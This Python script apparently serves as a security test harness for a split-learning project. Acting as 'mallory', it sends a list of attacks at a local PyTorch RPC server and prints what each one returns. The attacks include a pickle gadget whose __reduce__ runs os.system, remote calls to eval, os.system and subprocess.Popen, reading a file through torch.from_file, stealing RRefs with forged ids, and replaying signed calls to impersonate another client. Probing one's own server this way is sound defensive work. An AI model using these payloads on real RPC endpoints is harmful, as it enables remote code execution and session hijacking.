"""Plays a stranger who knows the address of a rank's RPC: tries each attack and prints its outcome.

python attacker.py uv://127.0.0.1:12345 <folder for what an attack would leave> [<port of the front desk>]

With the port, and the run's token in SPLITLEARN_TOKEN, he is client 1 as well, and does what no client may do.
"""

import itertools
import os
import secrets
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor

os.environ["TP_SOCKET_IFNAME"] = "lo"
os.environ["TORCH_CPP_LOG_LEVEL"] = "FATAL"

import torch
import torch.distributed as dist
import torch.distributed.autograd
from torch.distributed import rpc

from splitlearn.exchange.messages import Hello
from splitlearn.transport import Patience
from splitlearn.transport.agent import start_agent
from splitlearn.transport.delivery import deliver
from splitlearn.transport.entry import Entry, Way, enter
from splitlearn.transport.token import TOKEN_VARIABLE, sign

# The pickle of: internal._InternalRPCPickler, with its attribute `serialize` set to None.
SETS_AN_ATTRIBUTE = (
    b"\x80\x02ctorch.distributed.rpc.internal\n_InternalRPCPickler\n(N}X\x09\x00\x00\x00serializeNs\x74b."
)


class Evil:
    """An argument that runs a command where it is unpickled."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)


def call(function, *args, **kwargs):
    return rpc.rpc_sync("server", function, args=args, kwargs=kwargs, timeout=5)


def operator(name: str, *args):
    return torch._C._distributed_rpc._invoke_rpc_builtin(rpc.get_worker_info("server"), name, 5.0, *args).wait()


def pickled(message: bytes):
    return torch._C._distributed_rpc._invoke_rpc_python_udf(
        rpc.get_worker_info("server"), message, [], 5.0, False
    ).wait()


def rref(created_on: int, number: int):
    ids = (0, created_on, number, 999, next(forks), 999)  # owner, RRef's id, fork's id, parent
    return dist.rpc.PyRRef._deserialize((*ids, "PyObject"))


forks = itertools.count(1000)


def steal_rrefs() -> None:
    """Fetches each of the RRefs that there may be, and raises what came of it."""

    def steal(ids: tuple[int, int]) -> str:
        try:
            return f"answered {rref(*ids).to_here(2)!r}"
        except Exception as error:
            return in_a_line(error)

    ids = [(rank, number) for rank in (0, 1, 999) for number in range(5)]
    with ThreadPoolExecutor(len(ids)) as pool:
        raise RuntimeError(" / ".join(sorted(set(pool.map(steal, ids)))))


def in_a_line(error: Exception) -> str:
    return f"{type(error).__name__}: {' '.join(str(error).split())}"


def strangers_attacks(folder: str) -> dict:
    text = f"{folder}/secret"
    with open(text, "w") as file:
        file.write("secret!!" * 8)

    def left(name: str) -> str:
        return f"{folder}/{name}"

    unsigned = (0, "0" * 16, 1, "failed", "0" * 64, ("mallory was here",))
    large = (*unsigned[:5], (torch.zeros(1 << 26, dtype=torch.uint8),))
    return {
        "a function by pickle": lambda: call(os.system, f"touch {left('system')}"),
        "code in an argument": lambda: call(deliver, Evil(left("reduce"))),
        "an object of a class": lambda: rpc.remote(
            "server", subprocess.Popen, args=(["touch", left("popen")],), timeout=5
        ).to_here(2),
        "eval": lambda: call(eval, f"open({left('eval')!r}, 'w')"),
        "an attribute of an attribute": lambda: call(getattr, deliver, "__globals__"),
        "an attribute that is set": lambda: pickled(SETS_AN_ATTRIBUTE),
        "noise in place of a pickle": lambda: pickled(b"noise"),
        "an operator that reads a file": lambda: call(torch.from_file, text, False, 8),
        "an operator that computes": lambda: operator("aten::ones", [3]),
        "an operator that seeds": lambda: operator("aten::manual_seed", 1),
        "an unsigned call": lambda: call(deliver, *unsigned),
        "an unsigned call of 64 MB": lambda: call(deliver, *large),
        "a signature of the wrong type": lambda: call(deliver, *unsigned[:4], None, ()),
        "too few arguments": lambda: call(deliver),
        "a client that there is not": lambda: call(deliver, 99, *unsigned[1:]),
        "a client of the wrong type": lambda: call(deliver, [], *unsigned[1:]),
        "the RRefs": steal_rrefs,
        "a method of an RRef": lambda: rref(0, 0).rpc_sync(2).inbox(),
    }


def clients_attacks(port: int, token: bytes) -> dict:
    def sign_in(client: int, number: int) -> tuple[str, Entry]:
        session = secrets.token_hex(8)
        return session, enter(Way("127.0.0.1", port), client, number, session, token, 5)

    def signed(key: bytes, *what) -> tuple:
        return *what, sign(key, *what), Hello({}, {"num_classes": 1, "classes": ["0"]}, 1, 1, None).body()

    session, entry = sign_in(1, 0)
    recorded = signed(entry.key, 1, session, 1, "hello")
    yield_first = call(deliver, *recorded)
    entry.connection.close()
    session, entry = sign_in(1, entry.id)
    return {
        "a call while it is new": lambda: yield_first,
        "a call of an earlier sign-in": lambda: call(deliver, *recorded),
        "a call signed with the token": lambda: call(deliver, *signed(token, 1, session, 1, "hello")),
        "a call as another client": lambda: call(deliver, *signed(entry.key, 0, session, 1, "failed")),
        "a process of another client that comes back": lambda: sign_in(0, entry.id),
    }


def main() -> None:
    address, folder, *desk = sys.argv[1:]
    start_agent("mallory", 999, Patience(5, 5, 5), address)
    attacks = strangers_attacks(folder)
    if desk:
        attacks |= clients_attacks(int(desk[0]), os.environ[TOKEN_VARIABLE].encode())
    for name, attack in attacks.items():
        try:
            outcome = f"answered {attack()!r}"
        except Exception as error:
            outcome = in_a_line(error)
        print(f"{name} | {outcome[:400]}", flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
